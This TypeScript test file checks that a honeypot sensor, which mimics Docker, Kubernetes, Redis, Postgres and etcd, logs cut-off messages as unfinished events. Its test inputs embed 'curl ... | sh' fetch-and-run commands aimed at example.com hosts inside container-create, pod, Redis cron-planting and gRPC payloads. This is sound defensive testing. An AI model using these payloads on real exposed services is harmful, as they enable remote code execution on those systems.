/** Messages of which the rest never came: what did come is told with the end of their connections. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { connect as connectHttp2 } from 'node:http2';
import { connect as connectPlain } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { type Sensor, startSensor } from './sensor.ts';

const post = (target: string, body: string): string =>
  `POST ${target} HTTP/1.1\r\nHost: any\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n${body}`;

const startup = Buffer.from('\0\x03\0\0user\0postgres\0database\0postgres\0\0', 'latin1');
const sized = (bytes: Buffer, length = bytes.length): Buffer => {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(length + 4);
  return Buffer.concat([head, bytes]);
};

const halves: Readonly<Record<string, (line: string) => string | Buffer>> = {
  docker: (line) => post('/v1.41/containers/create', `{"Image":"alpine","Cmd":["sh","-c","${line}"],`),
  kubernetes: (line) => post('/api/v1/namespaces/default/pods', `{"kind":"Pod","x":"${line}"`),
  redis: (line) => `*1\r\n$4\r\nPING\r\n*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$400\r\n* * * * * ${line}\n`,
  postgres: (line) => Buffer.concat([sized(startup), Buffer.from('p'), sized(Buffer.from(line), 300)]),
};

describe('a message that is cut off', () => {
  let sensor: Sensor;
  before(async () => {
    sensor = await startSensor([...Object.keys(halves), 'etcd']);
  });
  after(() => sensor[Symbol.asyncDispose]());

  for (const [decoy, half] of Object.entries(halves)) {
    for (const way of ['ended', 'broken'] as const) {
      it(`is kept as far as it came: ${decoy}, ${way}`, async () => {
        const host = `${way}-${decoy}.example.com`;
        const plain = connectPlain(sensor.port(decoy), '127.0.0.1');
        const isTls = decoy === 'kubernetes';
        const socket = isTls ? connectTls({ socket: plain, rejectUnauthorized: false }) : plain;
        await once(socket, isTls ? 'secureConnect' : 'connect');
        socket.on('error', () => {}).resume();
        socket.write(half(`curl http://${host}/x.sh | sh`));
        await sleep(200);
        if (way === 'ended') socket.end();
        else plain.resetAndDestroy();
        const { data, severity, raw } = await sensor.event(`${decoy}.close`, (one) =>
          one.norm.hosts.includes(host),
        );
        assert.deepEqual([data?.unfinished, severity], [true, 'low']);
        assert.ok(Buffer.from(raw.head, 'base64').includes(`curl http://${host}/x.sh`));
        socket.destroy();
      });
    }
  }

  for (const way of ['ended', 'broken'] as const) {
    it(`is kept with all others of its session: HTTP/2, ${way}`, async () => {
      const plain = connectPlain(sensor.port('kubernetes'), '127.0.0.1');
      const socket = connectTls({ socket: plain, rejectUnauthorized: false, ALPNProtocols: ['h2'] });
      await once(socket, 'secureConnect');
      const hosts = ['first', 'second'].map((one) => `${one}-${way}.example.com`);
      const session = connectHttp2('https://any', { createConnection: () => socket }).on('error', () => {});
      for (const host of hosts)
        session
          .request({ ':method': 'POST', ':path': '/api/v1/namespaces/default/pods' })
          .on('error', () => {})
          .write(`{"kind":"Pod","x":"curl http://${host}/x.sh | sh"`);
      await sleep(200);
      if (way === 'ended') plain.end();
      else plain.resetAndDestroy();
      const { data, norm } = await sensor.event('kubernetes.close', (one) =>
        one.norm.hosts.includes(hosts[0]!),
      );
      assert.equal(data?.unfinished, true);
      assert.ok(norm.hosts.includes(hosts[1]!), `${norm.hosts}`);
      socket.destroy();
    });

    it(`is kept of a call: gRPC, ${way}`, async () => {
      const socket = connectPlain(sensor.port('etcd'), '127.0.0.1').on('error', () => {});
      await once(socket, 'connect');
      const session = connectHttp2('http://any', { createConnection: () => socket }).on('error', () => {});
      const host = `call-${way}.example.com`;
      const headers = { ':path': '/etcdserverpb.KV/Put', 'content-type': 'application/grpc', te: 'trailers' };
      const message = Buffer.from(`\0\0\0\x03\0\n\x01x\x12\xf0\x05curl http://${host}/x.sh | sh`, 'latin1');
      session
        .request({ ':method': 'POST', ...headers })
        .on('error', () => {})
        .write(message);
      await sleep(200);
      if (way === 'ended') socket.end();
      else socket.resetAndDestroy();
      const { data } = await sensor.event('etcd.close', (one) => one.norm.hosts.includes(host));
      assert.equal(data?.unfinished, true);
      socket.destroy();
    });
  }

  it('is none where all of it came', async () => {
    const socket = connectPlain(sensor.port('docker'), '127.0.0.1');
    const whole = 'GET /_ping HTTP/1.1\r\nHost: whole.example.com\r\n\r\n';
    socket.end(whole);
    await once(socket.resume(), 'close');
    const { data, severity } = await sensor.event(
      'docker.close',
      (one) => one.data?.received === whole.length,
    );
    assert.deepEqual([data?.unfinished, severity], [undefined, 'info']);
  });
});
